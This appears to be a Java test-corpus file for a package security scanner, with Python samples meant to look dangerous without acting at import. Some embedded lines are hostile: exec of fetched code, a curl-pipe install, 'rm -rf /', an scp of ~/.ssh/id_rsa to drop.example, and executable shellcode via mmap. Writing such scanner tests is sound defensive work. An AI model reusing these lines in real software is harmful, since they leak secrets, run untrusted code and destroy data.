package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** What large libraries do on demand, and must not be taken to do when they are imported. */
final class PythonGuesses {
  private PythonGuesses() {}

  static List<Sample> lookAlikes() {
    return List.of(
        new Sample(
            "a method of an unknown object has the name of one that runs what it fetched",
            Artifact.wheel("sample", "1.0")
                .file("sample/__init__.py", "from .core import start\nstart({}.get('x'))\n")
                .file("sample/core.py", "def start(x):\n    x.load('y')\n")
                .file(
                    "sample/preload.py",
                    """
                    import urllib.request
                    class Preload:
                        def load(self, url):
                            exec(compile(urllib.request.urlopen(url).read(), url, 'exec'))
                    """)),
        Sample.imported(
            "decorators are applied by hand",
            """
            from functools import wraps
            import urllib.request, typer
            app = typer.Typer()
            class Log:
                def __call__(self, func):
                    def wrapper(*args):
                        return func(*args)
                    return wraps(func)(wrapper)
            log = Log()
            @log
            def preload(url):
                exec(urllib.request.urlopen(url).read())
            def run(url):
                exec(urllib.request.urlopen(url).read())
            app.command('run', help='runs it')(run)
            """),
        Sample.imported(
            "programs that run nothing are told what was decoded",
            """
            import base64, os, subprocess, tempfile
            def show(output, name):
                with tempfile.NamedTemporaryFile(delete=False, suffix='.png') as f:
                    f.write(base64.b64decode(output))
                subprocess.run(['xdg-open', f.name])
                subprocess.run(['ls', base64.b64decode(name)])
                subprocess.check_output('icacls "{}" /reset'.format(base64.b64decode(name)))
            show('aW5lcnQ=', input())
            """),
        Sample.imported(
            "a way out is looked for, and one variable of all is sent",
            """
            import json, os, socket, requests
            def address():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.connect(('1.1.1.1', 80))
                    return s.getsockname()[0]
            def token(config):
                merged = config.load(dict(os.environ))
                return requests.post('https://iam.acme.example/token', data={'k': merged.get('ACME_KEY')}).json()
            def hello():
                requests.post('https://api.acme.example/hello', json={'host': socket.gethostname()})
            """),
        new Sample(
            "all variables are read in one file, and another asks a service",
            Artifact.wheel("sample", "1.0")
                .file("sample/__init__.py", "")
                .file(
                    "sample/settings.py",
                    "import os\nclass Settings:\n    def __init__(self):\n        self.values = dict(os.environ)\n")
                .file(
                    "sample/service.py",
                    "import requests\nfrom .settings import Settings\ndef ask(path):\n    return requests.get('https://api.acme.example/' + path, headers=Settings().values)\n")),
        Sample.imported(
            "sessions of a client's own speak to their service",
            """
            import httpx, requests
            class Client(requests.Session):
                def __init__(self, token):
                    super().__init__()
                    self.headers['Authorization'] = token
                def request(self, method, path, **kw):
                    return super().request(method, 'https://api.acme.example/v1/' + path, **kw)
            class Renewing(httpx.Client):
                def send(self, request, **kw):
                    answer = super().send(request, **kw)
                    if answer.status_code == 401:
                        fresh = httpx.post('https://auth.acme.example/token', data={'grant': 'x'}).json()
                        request.headers['Authorization'] = fresh['t']
                        answer = super().send(request, **kw)
                    return answer
            """),
        Sample.imported(
                "a few instructions ask the processor what it can do, and a table is fetched elsewhere",
                """
                import ctypes, mmap, urllib.request
                ASK = [0x53, 0x89, 0xF0, 0x0F, 0xA2, 0x5B, 0xC3]
                libc = ctypes.CDLL('libc.so.6')
                m = mmap.mmap(-1, len(ASK), mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE)
                at = ctypes.addressof(ctypes.c_void_p.from_buffer(m))
                m.write((ctypes.c_ubyte * len(ASK))(*ASK))
                libc.mprotect(at, len(ASK), mmap.PROT_READ | mmap.PROT_EXEC)
                ask = ctypes.CFUNCTYPE(None)(at)
                """)
            .with(
                "sample/table.py",
                "import urllib.request\ndef table(url):\n    return urllib.request.urlopen(url).read()\n"),
        Sample.imported(
            "what a command that fetches writes is waited for",
            """
            import subprocess
            def install():
                build = subprocess.Popen('curl -sL "https://tools.acme.example/$(uname -s).tgz" | tar xz -C /tmp && /tmp/tool setup', shell=True, stderr=subprocess.PIPE)
                _, err = build.communicate()
                if build.returncode:
                    raise RuntimeError(err)
            """),
        Sample.imported(
            "a session of a client's own asks by another client, and paths are put together",
            """
            import base64, urllib.request, requests
            class Session(requests.Session):
                def request(self, method, url, **kw):
                    if url.startswith('ftp:'):
                        return urllib.request.urlopen(url)
                    return super().request(method, url, **kw)
            def base(account):
                return 'https://%s.acme.example' % base64.b64decode(account).decode()
            def ask(account, path):
                return requests.get(base(account) + path)
            """),
        new Sample(
            "examples that a scanner is tested with, and code that uuencodes as Python 2 did",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    "import os\nfrom setuptools import setup\nflags = ' '.join(['-O2']).encode('hex')\nos.system('cc -DFLAGS=' + flags + ' x.c')\nsetup()\n")
                .file("sample/__init__.py", "")
                .file("examples/popen.py", "import os\nos.popen('rm -rf /')\n")
                .file(
                    "vendor/.github/workflows/build.yml",
                    "on: push\njobs:\n  a:\n    steps:\n    - run: scp ~/.ssh/id_rsa x@drop.example:\n")),
        Sample.imported(
            "a folder that may be the root is made anew",
            """
            import os, shutil
            class Store:
                def __init__(self, dst):
                    self.dir = dst.rstrip('/') or '/'
                def clear(self):
                    shutil.rmtree(self.dir)
                def remove(self, path):
                    p = path.rstrip('/') or '/'
                    shutil.rmtree(p)
            """));
  }
}
